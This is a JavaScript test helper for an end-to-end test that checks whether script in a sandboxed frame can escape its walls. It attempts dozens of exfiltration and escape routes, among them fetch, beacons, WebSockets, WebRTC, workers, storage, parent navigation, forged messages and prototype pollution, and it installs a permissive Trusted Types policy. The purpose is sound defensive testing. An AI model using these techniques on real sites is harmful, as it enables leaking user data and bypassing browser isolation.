// @ts-check
/**
 * Everything that the script of the machine's frame could try, but to go elsewhere with the frame, as text that test/e2e/walls.test.ts runs
 * there.
 * @param {{ readonly stranger: string, readonly datagrams: number, readonly home: string }} aim a stranger's origin, the port on which it
 *   takes datagrams, and the page's own address, to which more might be allowed
 * @returns {Promise<string[]>} what was reached, and how much was tried; attempts that end in silence are judged from outside
 */
async function attackFromFrame({ stranger, datagrams, home }) {
  const scope = /** @type {any} */ (globalThis);
  const page = /** @type {any} */ (parent);
  /** @param {EventTarget} target @param {string} good */
  const heard = (target, good = 'load') =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, resolve);
      target.addEventListener('error', () => reject(new Error('error')));
    });
  /** @param {string} name @param {object} members @returns {any} */
  const element = (name, members) => {
    const made = Object.assign(document.createElement(name), members);
    document.body.append(made);
    return made;
  };
  /** @param {unknown[]} _done */
  const sent = (..._done) => {
    throw new Error('sent, to whom is seen from outside');
  };
  // Where somebody must vouch for text and addresses, the attacker does: the name of the policy is no secret.
  const vouched = (/** @type {string} */ text) => text;
  scope.trustedTypes?.createPolicy('default', {
    createHTML: vouched,
    createScript: vouched,
    createScriptURL: vouched,
  });
  /** @type {[string, () => unknown][]} */
  const attempts = [
    ['WebSocket', () => heard(new WebSocket(`${stranger.replace('http', 'ws')}/leak`), 'open')],
    ['WebTransport', () => new scope.WebTransport(`${stranger.replace('http:', 'https:')}/leak`).ready],
    [
      'WebRTC',
      async () => {
        const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${datagrams}` }] });
        peer.createDataChannel('leak');
        await peer.setLocalDescription(await peer.createOffer());
        await new Promise((resolve) => setTimeout(resolve, 500));
        sent();
      },
    ],
    ['WebRTC of a frame within', () => new (element('iframe', {}).contentWindow.RTCPeerConnection)()],
    [
      'script of a frame within',
      () => {
        element('iframe', { srcdoc: '<script>parent.postMessage("alive", "*")</script>' });
        return heard(globalThis, 'message');
      },
    ],
    ['localStorage', () => localStorage.setItem('leak', '1')],
    ['sessionStorage', () => sessionStorage.setItem('leak', '1')],
    [
      'cookie',
      () => {
        Reflect.set(document, 'cookie', 'leak=1');
        if (!document.cookie.includes('leak')) sent();
      },
    ],
    ['cookie store', () => scope.cookieStore.set('leak', '1')],
    ['indexedDB', () => heard(indexedDB.open('leak'), 'success')],
    ['caches', () => caches.open('leak')],
    ['file system', () => navigator.storage.getDirectory()],
    ['broadcast', () => sent(new BroadcastChannel('leak').postMessage('frame'))],
    ['document of the page', () => page.document.body],
    ['storage of the page', () => page.localStorage],
    ['element around the frame', () => scope.frameElement.ownerDocument],
    ['prototype of the page', () => Object.assign(page.Object.prototype, { polluted: 1 })],
    ['address of the page', () => page.location.href],
    ['navigation of the page', () => sent(page.location.assign(`${stranger}/leak`))],
    [
      'navigation of the page by a link',
      () => sent(element('a', { href: `${stranger}/leak`, target: '_top' }).click()),
    ],
    ['end of the page', () => sent(page.close())],
    ['dialog', () => sent(alert('leak'))],
    ['print', () => sent(print())],
    ['frame within', () => sent(element('iframe', { src: `${stranger}/leak` }))],
    ['frame of another text', () => sent(element('iframe', { srcdoc: `<img src="${stranger}/leak">` }))],
    [
      'forged messages',
      () => {
        const forged = [
          'videoport-board',
          { type: 'ready' },
          { type: 'answer', id: 1, value: {} },
          { type: 'events', events: [null] },
        ];
        for (const data of forged) page.postMessage(data, '*', [new MessageChannel().port1]);
        sent();
      },
    ],
    [
      'download of its own',
      () => sent(element('a', { href: URL.createObjectURL(new Blob(['leak'])), download: 'leak.txt' }).click()),
    ],
  ];
  for (const to of [stranger, home]) {
    const where = to === home ? 'home' : 'stranger';
    attempts.push(
      [`fetch ${where}`, () => fetch(`${to}/leak`)],
      [`beacon ${where}`, () => sent(navigator.sendBeacon(`${to}/leak`, 'secret'))],
      [`import ${where}`, () => new Function('address', 'return import(address)')(`${to}/leak.js`)],
      [`script ${where}`, () => heard(element('script', { src: `${to}/leak.js` }))],
      [`image ${where}`, () => heard(element('img', { src: `${to}/leak.png` }))],
      [`video ${where}`, () => heard(element('video', { src: `${to}/leak.mp4` }), 'loadeddata')],
      [`object ${where}`, () => heard(element('object', { data: `${to}/leak` }))],
      [`embed ${where}`, () => sent(element('embed', { src: `${to}/leak` }))],
      [`style sheet ${where}`, () => heard(element('link', { rel: 'stylesheet', href: `${to}/leak.css` }))],
      [`font ${where}`, () => new FontFace('leak', `url(${to}/leak.woff2)`).load()],
      [`worker ${where}`, () => heard(new Worker(`${to}/leak.js`), 'message')],
      [`shared worker ${where}`, () => heard(new SharedWorker(`${to}/leak.js`), 'connect')],
      [`service worker ${where}`, () => navigator.serviceWorker.register(`${to}/leak.js`)],
      [`event source ${where}`, () => heard(new EventSource(`${to}/leak`), 'open')],
      [
        `picture of a style ${where}`,
        () => {
          const sheet = new CSSStyleSheet();
          sheet.replaceSync(`body { background: url(${to}/leak.png); }`);
          document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
          sent(getComputedStyle(document.body).backgroundImage);
        },
      ],
      [`form ${where}`, () => sent(element('form', { action: `${to}/leak`, method: 'post' }).submit())],
      [`window ${where}`, () => open(`${to}/leak`)?.document ?? sent()],
    );
    for (const rel of [
      'prefetch',
      'preload',
      'modulepreload',
      'preconnect',
      'dns-prefetch',
      'prerender',
      'icon',
      'manifest',
    ])
      attempts.push([`${rel} ${where}`, () => heard(element('link', { rel, href: `${to}/leak`, as: 'image' }))]);
  }
  const reached = await Promise.all(
    attempts.map(async ([name, attempt]) => {
      // What neither comes nor fails has not come.
      const late = new Promise((_, reject) => setTimeout(() => reject(new Error('nothing')), 1000));
      return Promise.race([(async () => attempt())(), late]).then(
        () => [name],
        () => [],
      );
    }),
  );
  return [...reached.flat(), `${attempts.length} attempts`];
}

/**
 * Runs text in a worker, as the board makes them.
 * @param {string} text @param {unknown} message what the worker is sent
 * @returns {Promise<string[]>} what it answers
 */
function askWorker(text, message) {
  const address = URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const { trustedTypes } = /** @type {any} */ (globalThis);
  // Where somebody must vouch for the address, the attacker does.
  const policy = trustedTypes.createPolicy('lit-html', { createScriptURL: (/** @type {string} */ given) => given });
  const worker = new Worker(policy.createScriptURL(address));
  worker.postMessage(message);
  return new Promise((resolve) => {
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = (event) => resolve([event.message]);
  });
}

// For the test, which runs this text first of all.
Object.assign(globalThis, { attackFromFrame, askWorker });
